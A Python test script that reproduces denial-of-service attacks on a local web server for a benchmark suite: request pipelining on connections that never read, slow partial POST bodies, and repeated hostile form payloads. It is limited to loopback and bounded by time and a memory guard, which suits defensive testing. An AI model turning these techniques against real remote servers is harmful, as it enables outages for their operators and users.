#!/usr/bin/env python3
"""Loopback-only reproductions of the resource-exhaustion attacks of issue 18, for
bench/attacks.sh. Every loop is bounded in count and time, and each attack stops early
when the server's memory passes a guard, so a run cannot take the machine down.

  attack.py pipeline  PORT PID PATH  CONNECTIONS REQUESTS SECONDS
  attack.py body      PORT PID PATH  CONNECTIONS BODY_BYTES SENT_FRACTION SECONDS
  attack.py patterns  PORT PID PATH  REQUESTS BODY_FILE

Only 127.0.0.1 is ever contacted.
"""
import os
import select
import socket
import sys
import time

HOST = "127.0.0.1"
RSS_GUARD_KB = 6 * 1024 * 1024  # stop an attack once the server holds 6 GiB


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    ticks = os.sysconf("SC_CLK_TCK")
    return (int(fields[11]) + int(fields[12])) / ticks  # utime + stime


def open_socket(port, receive_buffer=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer:
        # A client that never reads: keep the kernel from absorbing the responses for us.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.connect((HOST, port))
    sock.setblocking(False)
    return sock


def push(pending, deadline, keep_going):
    """Sends each socket's remaining bytes (a dict socket -> memoryview) as the sockets
    take them, until all is sent, the deadline passes or keep_going() says stop; whether
    it was not stopped by keep_going."""
    while pending and time.time() < deadline:
        _, writable, _ = select.select([], list(pending), [], 0.2)
        for sock in writable:
            try:
                sent = sock.send(pending[sock][:65536])
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                del pending[sock]
                continue
            pending[sock] = pending[sock][sent:]
            if not pending[sock]:
                del pending[sock]
        if not keep_going():
            return False
    return True


def pipeline(port, pid, path, connections, requests, seconds):
    """Each connection sends REQUESTS pipelined GETs and never reads a byte; all stay open
    for SECONDS while the server's RSS is sampled."""
    request = f"GET {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\n\r\n".encode()
    baseline = rss_kb(pid)
    socks = [open_socket(port, receive_buffer=4096) for _ in range(connections)]
    pending = {sock: memoryview(request * requests) for sock in socks}
    peak = baseline
    deadline = time.time() + seconds

    def watch():
        nonlocal peak
        peak = max(peak, rss_kb(pid))
        return peak <= RSS_GUARD_KB

    guard_hit = not push(pending, deadline, watch)
    # Hold every connection open, still never reading, for the rest of the time.
    while not guard_hit and time.time() < deadline:
        time.sleep(0.25)
        peak = max(peak, rss_kb(pid))
        guard_hit = peak > RSS_GUARD_KB
    unsent = sum(len(rest) for rest in pending.values()) // len(request)
    for sock in socks:
        sock.close()
    print(f"connections={connections}")
    print(f"requests_per_connection={requests}")
    print(f"held_open_seconds={seconds:.0f}")
    print(f"requests_not_taken_by_server={unsent}")
    print(f"baseline_rss_mb={baseline / 1024:.1f}")
    print(f"peak_rss_mb={peak / 1024:.1f}")
    print(f"rss_growth_mb={(peak - baseline) / 1024:.1f}")
    print(f"guard_hit={'yes' if guard_hit else 'no'}")


def body(port, pid, path, connections, body_bytes, fraction, seconds):
    """Each connection sends a head announcing BODY_BYTES, then FRACTION of the body at
    once, then nothing. Reports how long the server holds each one and what it answers."""
    head = (f"POST {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {body_bytes}\r\n\r\n").encode()
    start = time.time()
    baseline = rss_kb(pid)
    socks = []
    for _ in range(connections):
        sock = open_socket(port)
        socks.append((sock, memoryview(head + b"a" * int(body_bytes * fraction))))
    # Push the front-loaded part (bounded by SECONDS).
    deadline = start + seconds
    push(dict(socks), deadline, lambda: True)
    sent_at = time.time()
    held = {sock: None for sock, _ in socks}
    statuses = {}
    peak = rss_kb(pid)
    while time.time() < deadline and any(v is None for v in held.values()):
        open_socks = [s for s, v in held.items() if v is None]
        readable, _, _ = select.select(open_socks, [], [], 0.25)
        peak = max(peak, rss_kb(pid))
        for sock in readable:
            try:
                data = sock.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 "):
                statuses[data[9:12].decode()] = statuses.get(data[9:12].decode(), 0) + 1
            held[sock] = time.time() - sent_at
    still_open = sum(1 for v in held.values() if v is None)
    times = sorted(v for v in held.values() if v is not None)
    for sock, _ in socks:
        sock.close()
    print(f"connections={connections}")
    print(f"body_bytes={body_bytes} sent={int(body_bytes * fraction)}")
    print(f"answered={len(times)} still_held_after_{seconds}s={still_open}")
    if times:
        print(f"held_seconds_median={times[len(times) // 2]:.1f} held_seconds_max={times[-1]:.1f}")
    print("statuses=" + (",".join(f"{k}x{v}" for k, v in sorted(statuses.items())) or "none"))
    print(f"rss_growth_mb={(peak - baseline) / 1024:.1f}")


def patterns(port, pid, path, requests, body_file):
    """Posts the same hostile form body REQUESTS times, one at a time, and reports the
    server's CPU seconds per request."""
    with open(body_file, "rb") as f:
        payload = f.read()
    head = (f"POST {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(payload)}\r\n"
            f"Connection: close\r\n\r\n").encode()
    before = cpu_seconds(pid)
    wall = time.time()
    statuses = {}
    for _ in range(requests):
        sock = socket.create_connection((HOST, port), timeout=60)
        sock.sendall(head + payload)
        reply = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            reply += chunk
        sock.close()
        status = reply[9:12].decode() if reply.startswith(b"HTTP/1.1 ") else "none"
        statuses[status] = statuses.get(status, 0) + 1
    spent = cpu_seconds(pid) - before
    print(f"requests={requests} body_bytes={len(payload)}")
    print("statuses=" + ",".join(f"{k}x{v}" for k, v in sorted(statuses.items())))
    print(f"cpu_seconds_per_request={spent / requests:.3f}")
    print(f"wall_seconds_per_request={(time.time() - wall) / requests:.3f}")


def main(argv):
    kind, port, pid, path = argv[1], int(argv[2]), int(argv[3]), argv[4]
    if kind == "pipeline":
        pipeline(port, pid, path, int(argv[5]), int(argv[6]), float(argv[7]))
    elif kind == "body":
        body(port, pid, path, int(argv[5]), int(argv[6]), float(argv[7]), float(argv[8]))
    elif kind == "patterns":
        patterns(port, pid, path, int(argv[5]), argv[6])
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
